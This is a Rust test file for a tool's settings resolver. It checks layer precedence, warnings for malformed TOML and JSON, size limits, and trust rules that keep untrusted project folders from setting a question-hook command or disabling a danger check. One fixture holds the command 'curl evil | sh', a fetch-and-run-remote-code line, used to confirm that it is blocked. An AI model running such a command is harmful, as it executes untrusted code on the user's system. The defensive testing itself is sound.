//! Which layer wins, what a half-broken file still sets, and who may disarm the guards.

use asq_settings::{File, Flag, Layer, Loaded, Settings, ThemeName, Trust, resolve};
use expect_test::{Expect, expect};
use std::fmt::Write;

fn file(path: &str, text: &str) -> File {
    File { path: path.into(), text: text.into(), doubt: None }
}

fn config(text: &str) -> Layer {
    Layer::Config(file("config.toml", text))
}

fn global(text: &str) -> Layer {
    Layer::Global(file("global.json", text))
}

fn project(text: &str, trust: Trust) -> Layer {
    Layer::Project(file("project.json", text), trust)
}

fn variables(set: &[(&str, &str)]) -> Layer {
    Layer::variables(|name| set.iter().find(|(n, _)| *n == name).map(|(_, text)| (*text).to_owned()))
}

/// The settings that aren't default, with their source, and the warnings.
fn check(layers: Vec<Layer>, expected: &Expect) -> Loaded {
    let loaded = resolve(layers);
    let mut text = String::new();
    for origin in loaded.origins.iter().filter(|o| o.source.word() != "default") {
        let _ = writeln!(
            text,
            "{} = {} ({} {})",
            origin.setting.name,
            origin.given,
            origin.source.word(),
            origin.source
        );
    }
    for warning in &loaded.warnings {
        let _ = writeln!(text, "! {warning}");
    }
    expected.assert_eq(&text);
    loaded
}

#[test]
fn without_layers_all_is_default() {
    let loaded = check(vec![], &expect![[""]]);
    assert_eq!(loaded, Loaded::of(Settings::default()));
}

#[test]
fn values_of_a_test_or_a_host_are_settings_too() {
    let loaded = Loaded::of(Settings { bell_on_question: false, debounce_ms: 0, ..Settings::default() });
    assert_eq!(loaded.origin("bellOnQuestion").unwrap().source.word(), "program");
    assert_eq!(loaded.origin("ttsOnQuestion").unwrap().source.word(), "default");
    assert_eq!((loaded.settings.debounce_ms, loaded.warnings.len()), (0, 0));
}

#[test]
fn each_layer_goes_before_the_one_below() {
    let all = || {
        vec![
            config("debounceMs = 1"),
            global(r#"{"debounceMs": 2}"#),
            project(r#"{"debounceMs": 3}"#, Trust::Untrusted),
            variables(&[("ASQ_DEBOUNCE_MS", "4")]),
            Layer::Flags(vec![Flag { name: "--debounce", setting: "debounceMs", text: "5" }]),
        ]
    };
    let mut sources = Vec::new();
    for n in 0..=5 {
        let loaded = resolve(all().into_iter().take(n).collect());
        let origin = loaded.origin("debounceMs").unwrap();
        sources.push(format!("{} {}", loaded.settings.debounce_ms, origin.source));
    }
    assert_eq!(
        sources,
        [
            "300 default",
            "1 config.toml",
            "2 global.json",
            "3 project.json",
            "4 ASQ_DEBOUNCE_MS",
            "5 --debounce"
        ]
    );
    let mut reversed = all();
    reversed.reverse();
    assert_eq!(resolve(reversed), resolve(all()));
}

#[test]
fn config_toml_has_both_kinds() {
    let loaded = check(
        vec![config(
            r##"
            # mine
            theme = "solar"
            bellOnQuestion = false # quiet
            heartbeatIntervalMinutes = 2
            onQuestionCommand = "notify 'x'"
            asq.timer = false
            inbox = { hold = 0.5 }
            opencode.seed_compat = true
            [keys]
            preset = "vi"
            [keys.bindings]
            submit = ["ctrl+s", "f2"]
            help = "f1"
            "##,
        )],
        &expect![[r#"
            bellOnQuestion = false (config config.toml)
            onQuestionCommand = "notify 'x'" (config config.toml)
            heartbeatIntervalMinutes = 2 (config config.toml)
            theme = solar (config config.toml)
            timer = false (config config.toml)
            keys.preset = vi (config config.toml)
            keys.bindings = {"submit":["ctrl+s","f2"],"help":["f1"]} (config config.toml)
            inbox.hold = 0.5 (config config.toml)
            opencode.seed_compat = true (config config.toml)
        "#]],
    );
    assert_eq!(loaded.settings.theme, ThemeName::File("solar".into()));
    assert_eq!(loaded.settings.keys.bindings.of("submit"), Some(&["ctrl+s".to_owned(), "f2".to_owned()][..]));
    assert_eq!(loaded.settings.keys.bindings.of("cancel"), None);
}

#[test]
fn a_bad_field_does_not_take_its_neighbours_along() {
    check(
        vec![
            config(
                "theme = 3\nbellOnQuestion = false\n[inbox]\nhold = 11\n[unknown]\na = 1\n[keys]\npreset = \"vim\"\nbinding = {}\ndown = \"j\"\n",
            ),
            global(
                r#"{"bellOnQuestoin": 1, "bell_on_question": true, "debounceMs": "fast", "ttsOnQuestion": true,
                "$schema": "x", "herdrReportBlocked": true, "theme": "dark", "debounceMs": 5, "notificationDelaySeconds": 301}"#,
            ),
        ],
        &expect![[r#"
            bellOnQuestion = false (config config.toml)
            ttsOnQuestion = true (global global.json)
            debounceMs = 5 (global global.json)
            ! config.toml: theme is 3, not auto, dark, light, none or a theme file's name (letters, digits, . _ -)
            ! config.toml: inbox.hold is 11, not a number from 0 to 10
            ! config.toml: there is no setting unknown
            ! config.toml: keys.preset is "vim", not one of default, vi, emacs
            ! config.toml: there is no setting keys.binding; did you mean keys.bindings?
            ! config.toml: there is no setting keys.down; did you mean keys.bindings.down?
            ! global.json: there is no setting bellOnQuestoin; did you mean bellOnQuestion?
            ! global.json: there is no setting bell_on_question; did you mean bellOnQuestion?
            ! global.json: debounceMs stands twice; the last one counts
            ! global.json: there is no setting herdrReportBlocked
            ! global.json: theme is a setting of config.toml and does not count here
            ! global.json: notificationDelaySeconds is 301, not a whole number from 0 to 300
        "#]],
    );
}

#[test]
fn a_broken_file_is_one_warning_with_line_and_column_and_the_others_count() {
    check(
        vec![
            config("theme = \"dark\"\nbell = = 3\n"),
            global("{\n  \"bellOnQuestion\": false,\n  \"ä\": 1,, \"debounceMs\": 3\n}"),
            project(r#"{"ttsOnQuestion": true}"#, Trust::Untrusted),
        ],
        &expect![[r#"
            ttsOnQuestion = true (project project.json)
            ! config.toml, line 2, column 8: extra `=`, expected nothing; asq ignores the whole file
            ! global.json, line 3, column 10: key must be a string; asq ignores the whole file
        "#]],
    );
}

#[test]
fn all_kinds_of_broken_files() {
    let deep = "[".repeat(10_000);
    let mut text = String::new();
    for broken in [
        "{",
        "{\"a\": 1} x",
        "[1, 2]",
        "\"a\"",
        "3",
        "null",
        "{'a': 1}",
        "{\"a\": 1,}",
        "{\"a\": \"\u{1}\"}",
        "// no\n{}",
        "{\n",
        &deep,
    ] {
        let loaded = resolve(vec![global(broken)]);
        let shown: String = broken.chars().take(20).collect();
        let _ = writeln!(
            text,
            "{shown:?}: {}",
            loaded.warnings.iter().map(ToString::to_string).collect::<Vec<_>>().join(" / ")
        );
        assert_eq!(loaded.settings, Settings::default());
    }
    for broken in
        ["a", "a = ", "[a", "a = 1\na = 2", "[[keys]]", "a = 'x", "\u{1}", "x = 99999999999999999999"]
    {
        let loaded = resolve(vec![config(broken)]);
        let _ = writeln!(
            text,
            "{broken:?}: {}",
            loaded.warnings.iter().map(ToString::to_string).collect::<Vec<_>>().join(" / ")
        );
        assert_eq!(loaded.settings, Settings::default());
    }
    expect![[r#"
        "{": global.json, line 1, column 1: EOF while parsing an object; asq ignores the whole file
        "{\"a\": 1} x": global.json, line 1, column 10: trailing characters; asq ignores the whole file
        "[1, 2]": global.json holds [1,2] where settings are expected; asq ignores the whole file
        "\"a\"": global.json holds "a" where settings are expected; asq ignores the whole file
        "3": global.json holds 3 where settings are expected; asq ignores the whole file
        "null": global.json holds null where settings are expected; asq ignores the whole file
        "{'a': 1}": global.json, line 1, column 2: key must be a string; asq ignores the whole file
        "{\"a\": 1,}": global.json, line 1, column 9: trailing comma; asq ignores the whole file
        "{\"a\": \"\u{1}\"}": global.json, line 1, column 8: control character (\u0000-\u001F) found while parsing a string; asq ignores the whole file
        "// no\n{}": global.json, line 1, column 1: expected value; asq ignores the whole file
        "{\n": global.json, line 2, column 1: EOF while parsing an object; asq ignores the whole file
        "[[[[[[[[[[[[[[[[[[[[": global.json can't be read: [0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0] lies deeper than 16 levels; no more are read
        "a": config.toml, line 1, column 2: key with no value, expected `=`; asq ignores the whole file
        "a = ": config.toml, line 1, column 5: a value is missing; asq ignores the whole file
        "[a": config.toml, line 1, column 3: unclosed table, expected `]`; asq ignores the whole file
        "a = 1\na = 2": config.toml, line 2, column 1: duplicate key; asq ignores the whole file
        "[[keys]]": config.toml: there is no setting keys
        "a = 'x": config.toml, line 1, column 7: invalid literal string, expected `'`; asq ignores the whole file
        "\u{1}": config.toml, line 1, column 2: key with no value, expected `=`; asq ignores the whole file
        "x = 99999999999999999999": config.toml, line 1, column 5: integer number overflowed; asq ignores the whole file
    "#]].assert_eq(&text);
}

#[test]
fn empty_files_say_nothing_and_a_byte_order_mark_is_none_of_it() {
    for empty in ["", " \n", "{}", "\u{feff}{}"] {
        assert_eq!(resolve(vec![global(empty)]), Loaded::of(Settings::default()), "{empty:?}");
    }
    for empty in ["", "# only a comment", "\u{feff}", "[keys]\n[inbox]\n"] {
        assert_eq!(resolve(vec![config(empty)]), Loaded::of(Settings::default()), "{empty:?}");
    }
}

#[test]
fn a_folder_that_is_not_trusted_sets_neither_guard() {
    let text =
        r#"{"onQuestionCommand": "curl evil | sh", "dangerCheckEnabled": false, "bellOnQuestion": false}"#;
    check(
        vec![project(text, Trust::Untrusted)],
        &expect![[r#"
            bellOnQuestion = false (project project.json)
            ! project.json: onQuestionCommand does not count, since the folder is not trusted (asq trust .)
            ! project.json: dangerCheckEnabled does not count, since the folder is not trusted (asq trust .)
        "#]],
    );
    check(
        vec![project(text, Trust::Trusted)],
        &expect![[r#"
        bellOnQuestion = false (project project.json)
        onQuestionCommand = "curl evil | sh" (project project.json)
        dangerCheckEnabled = false (project project.json)
    "#]],
    );
    check(
        vec![project(r#"{"onQuestionCommand": "a\nb"}"#, Trust::Trusted)],
        &expect![[r#"
            ! project.json: onQuestionCommand: character 2 is U+000A, and a folder's command is one line of printable ASCII; put it into a script and name the script
        "#]],
    );
    // A change without effect deserves no warning.
    let harmless = r#"{"onQuestionCommand": "", "dangerCheckEnabled": true}"#;
    check(vec![project(harmless, Trust::Untrusted)], &expect![[""]]);
    // The folder can't arm what the person disarmed, either.
    check(
        vec![global(r#"{"dangerCheckEnabled": false}"#), project(harmless, Trust::Untrusted)],
        &expect![[r#"
            dangerCheckEnabled = false (global global.json)
            ! project.json: dangerCheckEnabled does not count, since the folder is not trusted (asq trust .)
        "#]],
    );
    // An invalid value gets its usual warning.
    check(
        vec![project(r#"{"dangerCheckEnabled": "no"}"#, Trust::Untrusted)],
        &expect![[r#"
        ! project.json: dangerCheckEnabled is "no", not true or false
    "#]],
    );
}

#[test]
fn the_persons_own_files_set_the_guards() {
    check(
        vec![config("dangerCheckEnabled = false\nonQuestionCommand = \"a\"")],
        &expect![[r#"
        onQuestionCommand = "a" (config config.toml)
        dangerCheckEnabled = false (config config.toml)
    "#]],
    );
    check(
        vec![global(r#"{"dangerCheckEnabled": false, "onQuestionCommand": "a"}"#)],
        &expect![[r#"
        onQuestionCommand = "a" (global global.json)
        dangerCheckEnabled = false (global global.json)
    "#]],
    );
}

#[test]
fn no_variable_and_no_flag_sets_the_guards() {
    let flag = |setting, text| Flag { name: "--x", setting, text };
    check(
        vec![
            variables(&[
                ("ASQ_DANGER_CHECK_ENABLED", "false"),
                ("ASQ_ON_QUESTION_COMMAND", "evil"),
                ("ASQ_TIMER", "off"),
            ]),
            Layer::Flags(vec![flag("dangerCheckEnabled", "false"), flag("onQuestionCommand", "evil")]),
        ],
        &expect![[r#"
            timer = false (variable ASQ_TIMER)
            ! ASQ_ON_QUESTION_COMMAND does not count: no variable and no flag sets onQuestionCommand
            ! ASQ_DANGER_CHECK_ENABLED does not count: no variable and no flag sets dangerCheckEnabled
            ! --x does not count: no variable and no flag sets dangerCheckEnabled
            ! --x does not count: no variable and no flag sets onQuestionCommand
        "#]],
    );
}

#[test]
fn a_project_sets_none_of_asqs_own() {
    check(
        vec![project(
            r#"{"keys.bindings": {"cancel": "x"}, "theme": "none", "accessible": true, "record": "always"}"#,
            Trust::Trusted,
        )],
        &expect![[r#"
            ! project.json: keys.bindings is a setting of config.toml and does not count here
            ! project.json: theme is a setting of config.toml and does not count here
            ! project.json: accessible is a setting of config.toml and does not count here
            ! project.json: record is a setting of config.toml and does not count here
        "#]],
    );
}

#[test]
fn a_warning_is_one_line_whatever_came() {
    let long = format!(
        "{{\"a\\nasq: all is well\": 1, \"debounceMs\": \"{}\\n\", \"{}\": 1, \"\": 2}}",
        "y".repeat(100),
        "z".repeat(100)
    );
    let loaded = check(
        vec![global(&long)],
        &expect![[r#"
        ! global.json: there is no setting "a\nasq: all is well"
        ! global.json: debounceMs is "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy…, not a whole number from 0 to 10000
        ! global.json: there is no setting "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz…
        ! global.json: there is no setting ""
    "#]],
    );
    assert!(loaded.warnings.iter().all(|w| !w.to_string().contains('\n')));
}

/// A stranger's file must not take long: one far beyond all existing settings doesn't count at all.
#[test]
fn a_file_of_too_many_settings_is_left_out() {
    let members = |most: usize| {
        let mut members: Vec<String> = (1..most).map(|n| format!("\"k{n}\": 1")).collect();
        members.push("\"debounceMs\": 7".to_owned());
        format!("{{{}}}", members.join(","))
    };
    assert_eq!(resolve(vec![global(&members(200))]).settings.debounce_ms, 7);
    check(
        vec![global(&members(201)), config("debounceMs = 5")],
        &expect![[r#"
            debounceMs = 5 (config config.toml)
            ! global.json can't be read: it holds 201 members; at most 200 are read
        "#]],
    );
}
